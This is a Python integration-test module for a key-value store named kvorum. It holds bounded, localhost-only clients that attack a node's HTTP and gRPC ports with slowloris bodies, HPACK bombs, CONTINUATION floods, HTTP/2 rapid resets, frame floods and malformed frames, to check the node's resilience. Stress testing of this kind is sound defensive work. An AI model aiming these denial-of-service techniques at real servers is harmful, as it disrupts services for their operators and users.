"""Clients that mean harm, against one node's HTTP or gRPC port on this machine, bounded in number and time.

    python -m tests.integration.hostile.grpc_attacks NAME HOST:PORT SECONDS SCALE

A process of its own, so that the cost of attacking is not taken for a slow node. It prints one line of JSON with what
it counted. SCALE multiplies connections, 1.0 for the tests.
"""

import asyncio
import contextlib
import json
import struct
import sys
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Sequence
from dataclasses import dataclass, field

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from kvorum._proto import kvorum_pb2 as pb
from kvorum_node._proto import datapath_pb2 as dp

LOCAL = "127.0.0.1"
POST = b"POST %b HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer hostile\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TOKEN = b"Bearer hostile"
STREAM = b"/kvorum.v1.Kv/Stream"
READ, WRITE, WATCH = b"/v2/snapshot_read", b"/v2/atomic_write", b"/v2/watch"
LARGE = b"hostile-large"
"""Prefix of a thousand rows of 64 KiB, which `fill` makes."""
INITIAL_WINDOW = 4

HUGE_READ = dp.SnapshotRead(ranges=[dp.ReadRange(start=LARGE, end=LARGE + b"\xff", limit=100)] * 10).SerializeToString()
SMALL_WRITE = dp.AtomicWrite(
    mutations=[dp.Mutation(key=b"hostile", value=dp.KvValue(data=b"x", encoding=dp.VE_BYTES), mutation_type=dp.M_SET)]
).SerializeToString()


@dataclass
class Plan:
    """What an attack is told."""

    host: str
    port: int
    seconds: float
    scale: float
    counts: Counter[str] = field(default_factory=Counter)
    end: float = 0.0

    def many(self, number: int) -> range:
        """So many, times the scale."""
        return range(max(1, int(number * self.scale)))

    @property
    def left(self) -> float:
        """Seconds."""
        return self.end - time.monotonic()

    @contextlib.asynccontextmanager
    async def connection(self) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        """One that is cut at the end, whatever is under way. Raises OSError."""
        reader, writer = await asyncio.open_connection(self.host, self.port)
        self.counts["connections"] += 1
        try:
            yield reader, writer
        finally:
            writer.transport.abort()

    async def send(self, writer: asyncio.StreamWriter, data: bytes) -> None:
        """Until the node has taken it, or the time is up. Raises OSError."""
        writer.write(data)
        async with asyncio.timeout(max(0.0, self.left)):
            await writer.drain()
        self.counts["bytes"] += len(data)

    async def linger(self, reader: asyncio.StreamReader) -> None:
        """Wait without reading until the time is up."""
        reader._transport.pause_reading()  # type: ignore[attr-defined]
        # Nothing tells of a cut connection that is not read: the attacker stays to the end.
        await asyncio.sleep(max(0.0, self.left))


Attack = Callable[[Plan], Awaitable[None]]
ATTACKS: dict[str, Attack] = {}


def attack(run: Attack) -> Attack:
    """Register."""
    ATTACKS[run.__name__] = run
    return run


async def crowd(plan: Plan, number: int, one: Callable[[int], Awaitable[None]]) -> None:
    """Run `one` for each of many connections; those that are cut come back until the time is up."""

    async def again(which: int) -> None:
        while plan.left > 0:
            try:
                await one(which)
            except TimeoutError:
                return
            except OSError:
                plan.counts["cut"] += 1
                await asyncio.sleep(0.05)
            else:
                await asyncio.sleep(0.01)

    await asyncio.gather(*(again(which) for which in plan.many(number)))


# ---- HTTP/2 by hand


def fields(path: bytes, *more: tuple[bytes, bytes], method: bytes = b"POST") -> list[tuple[bytes, bytes]]:
    """A good head."""
    usual = [
        (b":method", method),
        (b":path", path),
        (b":scheme", b"http"),
        (b":authority", b"x"),
        (b"authorization", TOKEN),
    ]
    return [*usual, *more]


def head(number: int, path: bytes, *more: tuple[bytes, bytes], end: bool = False, method: bytes = b"POST") -> bytes:
    """A HEADERS frame that leaves no trace in the table of headers."""
    data = b"".join(
        b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
        for name, value in fields(path, *more, method=method)
    )
    flags = ["END_HEADERS", "END_STREAM"] if end else ["END_HEADERS"]
    return HeadersFrame(number, data=data, flags=flags).serialize()


def body(number: int, data: bytes) -> bytes:
    """All of a body."""
    return DataFrame(number, data=data, flags=["END_STREAM"]).serialize()


def begin(**settings: int) -> bytes:
    """Preface and settings, e.g. `window=0`."""
    values = {INITIAL_WINDOW: settings["window"]} if "window" in settings else {}
    return PREFACE + SettingsFrame(0, settings=values).serialize()


def all_of(frames: Iterable[Frame]) -> bytes:
    return b"".join(frame.serialize() for frame in frames)


def odd(count: int, start: int = 1) -> range:
    """Numbers of a client's streams."""
    return range(start, start + 2 * count, 2)


# ---- slow and endless


@attack
async def slow_heads(plan: Plan) -> None:
    """A byte every half second, of either version."""
    beginnings = (
        b"POST /v2/atomic_write HTTP/1.1\r\nHost: x\r\nX-Long: " + b"a" * 1_000,
        PREFACE,
        begin() + b"\0\0\x99\1\4",
    )

    async def one(which: int) -> None:
        async with plan.connection() as (reader, writer):
            for byte in beginnings[which % len(beginnings)]:
                await plan.send(writer, bytes([byte]))
                if reader.at_eof() or plan.left < 0:
                    return
                await asyncio.sleep(0.5)

    await crowd(plan, 300, one)


@attack
async def slow_bodies(plan: Plan) -> None:
    """A body that comes byte by byte, in many streams of each connection."""

    async def one(which: int) -> None:
        async with plan.connection() as (reader, writer):
            if which % 2:
                await plan.send(writer, POST % WRITE + b"Content-Length: 1000000\r\n\r\n")
            else:
                await plan.send(writer, begin() + b"".join(head(number, WRITE) for number in odd(100)))
            for at in range(1_000_000):
                data = b"x" if which % 2 else DataFrame(odd(100)[at % 100], data=b"x").serialize()
                await plan.send(writer, data)
                if reader.at_eof() or plan.left < 0:
                    return
                await asyncio.sleep(0.3)

    await crowd(plan, 100, one)


@attack
async def endless_bodies(plan: Plan) -> None:
    """Bodies without an end, or with an absurd length, as fast as they go."""
    post = POST % WRITE
    chunk = b"ffff\r\n" + b"x" * 65_535 + b"\r\n"

    async def one(which: int) -> None:
        async with plan.connection() as (reader, writer):
            kind = which % 4
            if kind == 0:
                await plan.send(writer, post + b"Transfer-Encoding: chunked\r\n\r\n")
            elif kind == 1:
                await plan.send(writer, post + b"Content-Length: 9999999999999\r\n\r\n")
            elif kind == 2:
                await plan.send(writer, post + b"Content-Length: 1048576\r\n\r\n")
            else:
                await plan.send(writer, begin() + head(1, WRITE))
            while plan.left > 0 and not reader.at_eof():
                await plan.send(writer, chunk if kind < 3 else DataFrame(1, data=b"x" * 16_384).serialize())

    await crowd(plan, 8, one)


@attack
async def tiny_pieces(plan: Plan) -> None:
    """Large bodies in pieces of a byte, never finished: what each piece costs must be counted."""
    size = min(900_000, int(900_000 * plan.scale))
    frames = DataFrame(1, data=b"x").serialize()

    async def one(which: int) -> None:
        async with plan.connection() as (reader, writer):
            if which % 2:
                await plan.send(writer, POST % WRITE + b"Transfer-Encoding: chunked\r\n\r\n")
                piece = b"1\r\nx\r\n" * 500
            else:
                await plan.send(writer, begin() + head(1, WRITE))
                piece = frames * 500
            for _ in range(size // 500):
                await plan.send(writer, piece)
                if reader.at_eof():
                    return
            await plan.linger(reader)

    await crowd(plan, 8, one)


# ---- heads


@attack
async def big_heads(plan: Plan) -> None:
    """Heads beyond all measure: long lines, many fields, bombs in HPACK, continuations without an end."""
    bomb = Encoder()
    large = bomb.encode(fields(WRITE, (b"x-bomb", b"y" * 4_000)), huffman=False)
    repeated = b"\xbe" * 16_000  # the newest entry of the table, over and over: 64 MB
    block = b"\0\1a" + b"\x7f\x80\x7f" + b"v" * 16_000

    async def one(which: int) -> None:
        kind = which % 5
        async with plan.connection() as (reader, writer):
            if kind == 0:
                await plan.send(writer, b"GET /" + b"x" * 1_000_000)
            elif kind == 1:
                await plan.send(writer, b"GET /livez HTTP/1.1\r\n" + b"A: b\r\n" * 200_000)
            elif kind == 2:
                await plan.send(
                    writer,
                    begin()
                    + HeadersFrame(1, data=large, flags=["END_HEADERS", "END_STREAM"]).serialize()
                    + HeadersFrame(3, data=b"\x83\x86\x84" + repeated, flags=["END_HEADERS", "END_STREAM"]).serialize(),
                )
            elif kind == 3:
                await plan.send(writer, begin() + HeadersFrame(1, data=b"\x83\x86\x84", flags=[]).serialize())
                for _ in range(1_000):
                    await plan.send(writer, ContinuationFrame(1, data=block[:16_384], flags=[]).serialize())
            else:
                await plan.send(writer, begin() + HeadersFrame(1, data=b"\x83\x86\x84", flags=[]).serialize())
                for _ in range(5_000):
                    await plan.send(writer, ContinuationFrame(1, data=b"", flags=[]).serialize() * 20)
            async with asyncio.timeout(max(0.0, plan.left)):
                while await reader.read(65_536):
                    pass

    await crowd(plan, 10, one)


# ---- floods


@attack
async def rapid_resets(plan: Plan) -> None:
    """Requests that are reset at once, as many as go."""

    async def one(_: int) -> None:
        async with plan.connection() as (reader, writer):
            await plan.send(writer, begin())
            number = 1
            while plan.left > 0 and not reader.at_eof():
                parts = []
                for stream in odd(50, number):
                    parts += [
                        head(stream, READ),
                        body(stream, HUGE_READ),
                        RstStreamFrame(stream, error_code=8).serialize(),
                    ]
                number += 100
                plan.counts["streams"] += 50
                await plan.send(writer, b"".join(parts))

    await crowd(plan, 4, one)


@attack
async def made_resets(plan: Plan) -> None:
    """Requests that the node itself has to reset, since their client breaks the rules of their streams."""

    async def one(_: int) -> None:
        async with plan.connection() as (reader, writer):
            await plan.send(writer, begin())
            number = 1
            while plan.left > 0 and not reader.at_eof():
                parts = []
                for stream in odd(50, number):
                    parts += [
                        head(stream, READ),
                        body(stream, HUGE_READ),
                        WindowUpdateFrame(stream, window_increment=(1 << 31) - 1).serialize(),
                    ]
                number += 100
                plan.counts["streams"] += 50
                await plan.send(writer, b"".join(parts))

    await crowd(plan, 4, one)


@attack
async def half_open_streams(plan: Plan) -> None:
    """As many streams as are allowed, none of which is ever finished."""

    async def one(_: int) -> None:
        async with plan.connection() as (reader, writer):
            await plan.send(writer, begin() + b"".join(head(number, WRITE) for number in odd(512)))
            plan.counts["streams"] += 512
            await plan.linger(reader)

    await crowd(plan, 60, one)


@attack
async def many_requests(plan: Plan) -> None:
    """Cheap requests in all streams of many connections, the answers to which are never read."""

    async def one(_: int) -> None:
        async with plan.connection() as (reader, writer):
            await plan.send(writer, begin(window=0))
            request = dp.SnapshotRead(ranges=[dp.ReadRange(start=b"a", end=b"b", limit=1)]).SerializeToString()
            await plan.send(writer, b"".join(head(number, READ) + body(number, request) for number in odd(500)))
            plan.counts["streams"] += 500
            await plan.linger(reader)

    await crowd(plan, 40, one)


@attack
async def small_frames(plan: Plan) -> None:
    """Frames that cost little to send and something to take: pings, settings, window updates, empty data; the answers
    are not read."""
    floods = (
        PingFrame(0, opaque_data=b"12345678").serialize() * 500,
        SettingsFrame(0, settings={3: 5, 4: 70_000}).serialize() * 500,
        WindowUpdateFrame(0, window_increment=1).serialize() * 500,
        DataFrame(1, data=b"").serialize() * 500,
        bytes((0, 0, 5, 2, 0, 0, 0, 0, 1)) + b"\0\0\0\3\1",  # priority
        bytes((0, 0, 0, 0x77, 0, 0, 0, 0, 0)) * 500,  # of a type that nobody knows
    )

    async def one(which: int) -> None:
        async with plan.connection() as (reader, writer):
            await plan.send(writer, begin() + head(1, WRITE))
            reader._transport.pause_reading()  # type: ignore[attr-defined]
            while plan.left > 0 and not reader.at_eof():
                await plan.send(writer, floods[which % len(floods)])

    await crowd(plan, 12, one)


@attack
async def cheap_requests(plan: Plan) -> None:
    """Many complete requests in few bytes, refused or answered, read in full: the node's loop must not starve."""

    async def one(which: int) -> None:
        async with plan.connection() as (reader, writer):
            await plan.send(writer, begin() + WindowUpdateFrame(0, window_increment=1 << 30).serialize())
            drain = asyncio.ensure_future(_drain(reader))
            number = 1
            path = (b"/livez", b"/nothing", b"/metrics", b"/v2/watch")[which % 4]
            try:
                while plan.left > 0 and not drain.done():
                    parts = [head(stream, path, end=True, method=b"GET") for stream in odd(100, number)]
                    number += 200
                    plan.counts["streams"] += 100
                    await plan.send(writer, b"".join(parts))
                    await asyncio.sleep(0)
            finally:
                drain.cancel()

    await crowd(plan, 4, one)


async def _drain(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(262_144):
            pass


@attack
async def pipelines(plan: Plan) -> None:
    """HTTP/1.1 requests ahead of any answer, never read."""

    async def one(_: int) -> None:
        async with plan.connection() as (reader, writer):
            reader._transport.pause_reading()  # type: ignore[attr-defined]
            while plan.left > 0 and not reader.at_eof():
                await plan.send(writer, b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 500)

    await crowd(plan, 8, one)


@attack
async def idle_connections(plan: Plan) -> None:
    """More connections than there is room for, which say nothing, or ask once and stay."""

    async def one(which: int) -> None:
        async with plan.connection() as (reader, writer):
            if which % 2:
                await plan.send(writer, b"GET /livez HTTP/1.1\r\nHost: x\r\n\r\n")
            await plan.linger(reader)

    await crowd(plan, 3_000, one)


@attack
async def cuts(plan: Plan) -> None:
    """Connections that break at every point of a request, politely or not."""
    old = POST % WRITE + b"Content-Length: %d\r\n\r\n" % len(SMALL_WRITE)
    new = begin() + head(1, WRITE) + body(1, SMALL_WRITE) + head(3, READ) + body(3, HUGE_READ)
    whole = (old + SMALL_WRITE, new, new)
    at = 0

    async def one(which: int) -> None:
        nonlocal at
        at += 1
        data = whole[which % 3]
        reader, writer = await asyncio.open_connection(plan.host, plan.port)
        plan.counts["connections"] += 1
        try:
            await plan.send(writer, data[: at % (len(data) + 1)])
            if which % 3 == 2:
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(0.02):
                        await reader.read(9)  # the beginning of an answer
            if at % 2 and writer.can_write_eof():
                writer.write_eof()
        finally:
            if at % 3:
                writer.transport.abort()
            else:
                writer.close()

    await crowd(plan, 12, one)


@attack
async def large_writes(plan: Plan) -> None:
    """Writes of half a megabyte, as many at a time as go; the answers are read, and new ones come."""
    parts = dp.AtomicWrite()
    for at in range(8):
        parts.mutations.add(
            key=b"hostile-write-%d" % at,
            value=dp.KvValue(data=b"x" * 65_000, encoding=dp.VE_BYTES),
            mutation_type=dp.M_SET,
        )
    data = parts.SerializeToString()

    async def one(_: int) -> None:
        async with plan.connection() as (reader, writer):
            await plan.send(writer, begin() + WindowUpdateFrame(0, window_increment=1 << 30).serialize())
            drain = asyncio.ensure_future(_drain(reader))
            number = 1
            try:
                while plan.left > 0 and not drain.done():
                    frames = [DataFrame(number, data=data[at : at + 16_384]) for at in range(0, len(data), 16_384)]
                    await plan.send(writer, head(number, WRITE) + all_of(frames) + body(number, b""))
                    number += 2
                    plan.counts["writes"] += 1
            finally:
                drain.cancel()

    await crowd(plan, 8, one)


# ---- answers that are not read


@attack
async def unread_answers(plan: Plan) -> None:
    """Answers of 64 MiB, asked for a hundred times at once and never read."""

    async def one(which: int) -> None:
        async with plan.connection() as (reader, writer):
            if which % 2:
                await plan.send(writer, begin())
                await plan.send(writer, b"".join(head(number, READ) + body(number, HUGE_READ) for number in odd(100)))
            else:
                await plan.send(writer, POST % READ + b"Content-Length: %d\r\n\r\n%b" % (len(HUGE_READ), HUGE_READ))
            plan.counts["asked"] += 1
            await plan.linger(reader)

    await crowd(plan, 20, one)


@attack
async def dribbled_answers(plan: Plan) -> None:
    """Answers of 64 MiB that are read a byte at a time: never standing still, never done."""

    async def one(_: int) -> None:
        async with plan.connection() as (reader, writer):
            await plan.send(writer, begin(window=1))
            await plan.send(writer, b"".join(head(number, READ) + body(number, HUGE_READ) for number in odd(10)))
            drain = asyncio.ensure_future(_drain(reader))
            try:
                while plan.left > 0 and not drain.done():
                    await plan.send(writer, all_of(WindowUpdateFrame(number, window_increment=1) for number in odd(10)))
                    await asyncio.sleep(0.5)
            finally:
                drain.cancel()

    await crowd(plan, 4, one)


@attack
async def unread_watches(plan: Plan) -> None:
    """Watches of keys that change all the time, never read."""
    request = dp.Watch(keys=[dp.WatchKey(key=b"hostile-watched-%d" % at) for at in range(10)]).SerializeToString()
    change = dp.AtomicWrite(
        mutations=[
            dp.Mutation(
                key=b"hostile-watched-%d" % at,
                value=dp.KvValue(data=b"x" * 60_000, encoding=dp.VE_BYTES),
                mutation_type=dp.M_SET,
            )
            for at in range(10)
        ]
    ).SerializeToString()

    async def one(which: int) -> None:
        async with plan.connection() as (reader, writer):
            if which == 0:
                await plan.send(writer, begin() + WindowUpdateFrame(0, window_increment=1 << 30).serialize())
                drain = asyncio.ensure_future(_drain(reader))
                number = 1
                try:
                    while plan.left > 0 and not drain.done():
                        chunks = [change[at : at + 16_384] for at in range(0, len(change), 16_384)]
                        data = b"".join(DataFrame(number, data=chunk).serialize() for chunk in chunks)
                        await plan.send(writer, head(number, WRITE) + data + body(number, b""))
                        number += 2
                        plan.counts["changes"] += 1
                        await asyncio.sleep(0.1)
                finally:
                    drain.cancel()
                return
            await plan.send(writer, begin())
            await plan.send(writer, b"".join(head(number, WATCH) + body(number, request) for number in odd(150)))
            plan.counts["watches"] += 150
            await plan.linger(reader)

    await crowd(plan, 30, one)


@attack
async def window_games(plan: Plan) -> None:
    """Windows that open and close for hundreds of waiting answers with each small frame."""
    request = dp.SnapshotRead(ranges=[dp.ReadRange(start=LARGE, end=LARGE + b"\xff", limit=1)]).SerializeToString()

    async def one(which: int) -> None:
        async with plan.connection() as (reader, writer):
            await plan.send(writer, begin(window=0))
            await plan.send(writer, b"".join(head(number, READ) + body(number, request) for number in odd(500)))
            drain = asyncio.ensure_future(_drain(reader))
            games: Sequence[Frame] = (
                [WindowUpdateFrame(0, window_increment=1)] if which % 2
                else [SettingsFrame(0, settings={4: 1}), SettingsFrame(0, settings={4: 0})]
            )  # fmt: skip
            try:
                while plan.left > 0 and not drain.done():
                    await plan.send(writer, all_of(games) * 200)
            finally:
                drain.cancel()

    await crowd(plan, 4, one)


@attack
async def nonsense(plan: Plan) -> None:
    """Frames that break the rules in every way, one connection for each."""
    good = begin() + head(1, READ)
    bad = [
        WindowUpdateFrame(0, window_increment=1).serialize()[:-4] + bytes(4),
        WindowUpdateFrame(1, window_increment=1).serialize()[:-4] + bytes(4),
        WindowUpdateFrame(99, window_increment=1).serialize(),
        b"\xff\xff\xff\0\0\0\0\0\1",
        b"\0\0\5\6\0\0\0\0\0hello",
        b"\0\0\x08\6\0\0\0\0\1" + bytes(8),
        b"\0\0\1\4\0\0\0\0\0x",
        b"\0\0\6\4\1\0\0\0\0" + bytes(6),
        b"\0\0\6\4\0\0\0\0\0" + struct.pack(">HL", INITIAL_WINDOW, 1 << 31),
        b"\0\0\6\4\0\0\0\0\0" + struct.pack(">HL", 5, 1),
        b"\0\0\6\4\0\0\0\0\0" + struct.pack(">HL", 2, 9),
        b"\0\0\1\0\0\0\0\0\0x",
        DataFrame(2, data=b"x").serialize(),
        body(1, b"") + body(1, b"x"),
        head(2, READ),
        head(1, READ),
        HeadersFrame(3, data=b"\xff\xff\xff\xff\xff\xff", flags=["END_HEADERS"]).serialize(),
        HeadersFrame(3, data=b"\xc0", flags=["END_HEADERS"]).serialize(),
        HeadersFrame(3, data=b"\0\5:path\1/", flags=["END_HEADERS"]).serialize(),
        head(3, READ, (b"transfer-encoding", b"chunked")),
        head(3, READ, (b"Upper", b"x")),
        head(3, READ, (b"x", b"a\r\nb")),
        head(3, READ, (b":path", b"/twice")),
        head(3, READ, (b"content-length", b"5"), end=True),
        head(3, READ, (b"content-length", b"-1"), end=True),
        head(3, b""),
        head(3, b"*"),
        ContinuationFrame(1, data=b"x", flags=["END_HEADERS"]).serialize(),
        b"\0\0\4\5\4\0\0\0\1" + struct.pack(">L", 2),  # a push from a client
        b"\0\0\1\0\x08\0\0\0\1\xff",  # more padding than frame
        RstStreamFrame(7, error_code=1).serialize(),
        b"\0\0\4\3\0\0\0\0\0" + bytes(4),
    ]

    async def one(which: int) -> None:
        async with plan.connection() as (reader, writer):
            await plan.send(writer, good + bad[which % len(bad)])
            plan.counts["frames"] += 1
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(0.3):
                    while await reader.read(65_536):
                        pass

    await crowd(plan, 2 * len(bad), one)


# ---- gRPC


@attack
async def grpc_resets(plan: Plan) -> None:
    """Streams that are opened and reset at once, on the gRPC port."""

    async def one(_: int) -> None:
        async with plan.connection() as (reader, writer):
            await plan.send(writer, begin())
            number = 1
            while plan.left > 0 and not reader.at_eof():
                parts = []
                for stream in odd(50, number):
                    parts += [
                        head(
                            stream,
                            STREAM,
                            (b"content-type", b"application/grpc"),
                            (b"te", b"trailers"),
                        ),
                        RstStreamFrame(stream, error_code=8).serialize(),
                    ]
                number += 100
                plan.counts["streams"] += 50
                await plan.send(writer, b"".join(parts))

    await crowd(plan, 4, one)


@attack
async def grpc_half_open(plan: Plan) -> None:
    """Streams that say nothing, on many connections, on the gRPC port."""

    async def one(_: int) -> None:
        async with plan.connection() as (reader, writer):
            await plan.send(writer, begin())
            opened = (
                head(number, STREAM, (b"content-type", b"application/grpc"), (b"te", b"trailers"))
                for number in odd(900)
            )
            await plan.send(writer, b"".join(opened))
            plan.counts["streams"] += 900
            async with asyncio.timeout(max(0.0, plan.left)):
                await _drain(reader)

    await crowd(plan, 8, one)


@attack
async def grpc_watches(plan: Plan) -> None:
    """Watches of keys and of ranges, hundreds on each stream, of everything that changes, from the beginning; the
    streams are never read."""
    frame = pb.ClientFrame(hello=pb.Hello(protocol=1, client="hostile"))
    for number in range(400):
        frame.watches.add(id=number, keys=[LARGE + b"%04d" % (number % 1_000), b"good-connect"])
    for number in range(1_000, 1_400):
        frame.watches.add(id=number, start=b"\0", end=b"\xff", since=bytes(10) if number % 2 else b"")
    message = frame.SerializeToString()
    message = b"\0" + len(message).to_bytes(4, "big") + message
    data = b"".join(DataFrame(1, data=message[at : at + 16_384]).serialize() for at in range(0, len(message), 16_384))
    opened = begin() + head(1, STREAM, (b"content-type", b"application/grpc"), (b"te", b"trailers")) + data

    async def one(_: int) -> None:
        async with plan.connection() as (reader, writer):
            await plan.send(writer, opened)
            plan.counts["watches"] += 800
            await plan.linger(reader)

    await crowd(plan, 20, one)


@attack
async def grpc_frames(plan: Plan) -> None:
    """Pings, settings and the like, on the gRPC port."""
    await small_frames(plan)


async def main() -> None:
    """Run the attack that the command line names."""
    name, address, seconds, scale = sys.argv[1:5]
    host, _, port = address.rpartition(":")
    if host != LOCAL:
        raise SystemExit(f"attacks are for {LOCAL} only, not {host}")
    plan = Plan(host, int(port), float(seconds), float(scale))
    plan.end = time.monotonic() + plan.seconds
    await ATTACKS[name](plan)
    print(json.dumps(plan.counts))
